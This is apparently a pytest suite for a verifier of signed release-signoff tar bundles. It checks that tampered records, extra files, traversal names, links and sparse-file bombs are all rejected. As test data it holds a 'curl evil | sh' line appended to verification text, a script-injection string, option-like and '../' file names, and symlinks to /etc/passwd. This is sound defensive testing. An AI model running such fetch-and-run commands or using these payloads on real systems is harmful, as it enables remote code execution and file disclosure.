"""Bundles that somebody changed on their way: each change is found, and nothing of them obeyed."""

from __future__ import annotations

import hashlib
import io
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec
import pytest

from opsdeck.errors import DataError
from opsdeck.signoff.bundle import bundle_bytes, bundle_files
from opsdeck.signoff.bundle_text import ALL_SUMS
from opsdeck.signoff.verdict import Verdict
from tests.signoff.bundled import bundled, checked
from tests.signoff.keys import needs_ssh_keygen
from tests.signoff.signed import RULES, V1, Desk, Team, make_team, parts_of, signed_home, walk
from tests.signoff.tampered import said

pytestmark = needs_ssh_keygen
NAMES = msgspec.structs.replace(RULES, signatures="names")
Files = dict[str, bytes]


@pytest.fixture(scope="module")
def team(tmp_path_factory: pytest.TempPathFactory) -> Team:
    return make_team(tmp_path_factory.mktemp("keys"))


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory, team: Team) -> Files:
    home = tmp_path_factory.mktemp("signed") / "deck"
    content = signed_home(home, team)[V1]
    return bundle_files(bundled(Desk(home, team), content))


def packed(files: Files, *, sums: bool = True) -> bytes:
    """These files as a bundle, with all sums made anew."""
    if sums:
        rest = sorted(files.keys() - {ALL_SUMS})
        lines = (f"{hashlib.sha256(files[name]).hexdigest()}  {name}\n" for name in rest)
        files = {**files, ALL_SUMS: "".join(lines).encode()}
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as tar:
        for name, whole in files.items():
            entry = tarfile.TarInfo(f"{V1}-signoff/{name}")
            entry.size = len(whole)
            tar.addfile(entry, io.BytesIO(whole))
    return stream.getvalue()


def verified(folder: Path, tar: bytes, team: Team, **more: Any) -> Verdict:
    """What a bundle proves to somebody with signers of their own."""
    (folder / "b.tar").write_bytes(tar)
    return checked(folder / "b.tar", more.pop("known", team.signers), **more)


def test_untouched_it_holds(tmp_path: Path, team: Team, files: Files) -> None:
    verdict = verified(tmp_path, packed(files), team)
    assert not verdict.problems, said(verdict)
    assert verdict.status == "ok"


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b'deployed_by = ["carol"]', b'deployed_by = ["mallory"]'),
        (b'state = "complete"', b'state = "abandoned"\nabandoned = "no"\n#'),
        (b'event = "carol@one:', b'event = "mallory@one:'),
        (b"at = ", b"at  = "),
        (b"title = ", b"tittle = "),
        (b'"waived"', b'"passed"'),
        (b"[[signature]]", b"[[sig]]"),
        (b'title = "', b'title = "\xff'),
    ],
)
def test_a_record_that_says_something_else(
    tmp_path: Path, team: Team, files: Files, old: bytes, new: bytes
) -> None:
    # GIVEN a record with other words, and all sums made anew
    assert old in files["record.toml"]
    changed = {**files, "record.toml": files["record.toml"].replace(old, new, 1)}
    # THEN it is not what was signed
    verdict = verified(tmp_path, packed(changed), team)
    assert [(p.part, p.where) for p in verdict.bad] == [("record", "record.toml")], said(verdict)


@pytest.mark.parametrize(
    "change",
    [
        lambda text: text + b"    curl evil | sh\n",
        lambda text: text.replace(b"ssh-keygen -Y verify", b"echo ssh-keygen"),
        lambda text: b"",
    ],
)
def test_a_text_with_other_commands(
    tmp_path: Path, team: Team, files: Files, change: Callable[[bytes], bytes]
) -> None:
    changed = {**files, "VERIFY.txt": change(files["VERIFY.txt"])}
    verdict = verified(tmp_path, packed(changed), team)
    assert [p.where for p in verdict.bad] == ["VERIFY.txt"]
    assert "run none of its commands" in said(verdict)


@pytest.mark.parametrize(
    ("name", "old", "new"),
    [
        ("record.html", b"alice", b"mallory"),
        ("record.md", b"Gate", b"Gate, open"),
        ("record.md", None, None),
        ("record.html", b"</body>", b"<script>alert(1)</script></body>"),
    ],
)
def test_a_page_that_says_something_else(
    tmp_path: Path, team: Team, files: Files, name: str, old: bytes | None, new: bytes
) -> None:
    # GIVEN a page with other words, or none at all, and all sums made anew
    changed = {other: whole for other, whole in files.items() if other != name}
    if old is not None:
        assert old in files[name]
        changed[name] = files[name].replace(old, new, 1)
    # THEN what was signed holds, and not to read this page is a warning
    verdict = verified(tmp_path, packed(changed), team)
    assert [(p.severity, p.part, p.where) for p in verdict.problems] == [("warn", "record", name)]
    assert "read record.toml instead" in said(verdict)
    assert verdict.status == "warning"


@pytest.mark.parametrize(
    "name",
    ["README.txt", "journal/9999.json", "signatures/approver-erin-00000000.txt.sig", "opsdeck"],
)
def test_a_file_more(tmp_path: Path, team: Team, files: Files, name: str) -> None:
    verdict = verified(tmp_path, packed({**files, name: b"all is well\n"}), team)
    assert name in [p.where for p in verdict.bad]
    assert "it does not belong to what was signed" in said(verdict)


def test_a_signature_less(tmp_path: Path, team: Team, files: Files) -> None:
    # GIVEN a bundle without what the approver signed
    changed = {name: whole for name, whole in files.items() if "approver" not in name}
    verdict = verified(tmp_path, packed(changed), team)
    assert not verdict.complete
    assert parts_of(verdict) == {"record"}


def test_names_that_no_bundle_has(tmp_path: Path, team: Team, files: Files) -> None:
    # GIVEN the same file twice, under names that a tar takes for one
    for name in (
        "./content.json", "x/../content.json", "signatures//a.txt", "a/./b", ".hidden", "-rf",
        "a/b/c/d", "content.json/", "../content.json", "content.json\n",
    ):  # fmt: skip
        with pytest.raises(DataError, match="does not belong into a bundle"):
            verified(tmp_path, packed({**files, name: b"{}\n"}, sums=False), team)


@pytest.mark.parametrize(
    "kind",
    [
        tarfile.SYMTYPE,
        tarfile.LNKTYPE,
        tarfile.CHRTYPE,
        tarfile.BLKTYPE,
        tarfile.FIFOTYPE,
        tarfile.DIRTYPE,
    ],
)
def test_links_and_devices(tmp_path: Path, team: Team, files: Files, kind: bytes) -> None:
    stream = io.BytesIO(packed(files))
    with tarfile.open(fileobj=stream, mode="a") as tar:
        entry = tarfile.TarInfo(f"{V1}-signoff/evidence.txt")
        entry.type, entry.linkname = kind, "/etc/passwd"
        tar.addfile(entry)
    with pytest.raises(DataError, match="does not belong into a bundle"):
        verified(tmp_path, stream.getvalue(), team)


def test_two_files_of_one_name(tmp_path: Path, team: Team, files: Files) -> None:
    stream = io.BytesIO(packed(files))
    with tarfile.open(fileobj=stream, mode="a") as tar:
        tar.addfile(tarfile.TarInfo(f"{V1}-signoff/content.json"))
    with pytest.raises(DataError, match="does not belong into a bundle"):
        verified(tmp_path, stream.getvalue(), team)


def test_a_file_that_claims_to_be_endless(tmp_path: Path, team: Team) -> None:
    # GIVEN a hole of a million gigabytes, and a size that is not there
    for more in ({"GNU.sparse.size": str(10**15), "GNU.sparse.map": "0,0"}, {}):
        stream = io.BytesIO()
        with tarfile.open(fileobj=stream, mode="w", format=tarfile.PAX_FORMAT) as tar:
            entry = tarfile.TarInfo(f"{V1}-signoff/content.json")
            entry.pax_headers = more
            entry.size = 0 if more else 10**12
            tar.addfile(entry, None)
        # THEN it is no bundle, and takes no memory
        with pytest.raises(DataError):
            verified(tmp_path, stream.getvalue(), team)


def test_names_only_to_somebody_who_wants_signatures(tmp_path: Path, team: Team) -> None:
    # GIVEN a bundle in which names stand and no signature
    desk = Desk(tmp_path / "deck", team, rules=NAMES)
    walk(desk, V1)
    content = desk.at(10).sign(V1, "deployer", "carol")
    desk.sign(V1, "verifier", "bob", content)
    desk.sign(V1, "approver", "dave", content)
    tar = bundle_bytes(bundled(desk, content))
    # WHEN it is held against rules that want signatures, or names
    wanted, names = verified(tmp_path, tar, team), verified(tmp_path, tar, team, rules=NAMES)
    # THEN nobody signed, and it never says that somebody did
    assert wanted.status == "bad"
    assert not wanted.complete
    assert not names.problems, said(names)
    assert "NOT SIGNED" in names.words


def test_a_closed_gate_without_a_reason(tmp_path: Path, team: Team) -> None:
    desk = Desk(tmp_path / "deck", team)
    walk(desk, V1)
    content = desk.at(10).sign(V1, "deployer", "carol", rules=((False, "evidence fresh: no"),))
    verdict = verified(tmp_path, bundle_bytes(bundled(desk, content)), team)
    assert "at a closed gate without a reason: evidence fresh: no" in said(verdict)


def test_without_ssh_keygen_nothing_is_known(
    tmp_path: Path, team: Team, files: Files, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    verdict = verified(tmp_path, packed(files), team)
    assert verdict.status == "unknown"
    assert not verdict.bad, said(verdict)
    assert all(one.unknown and not one.ok for one in verdict.signatures)
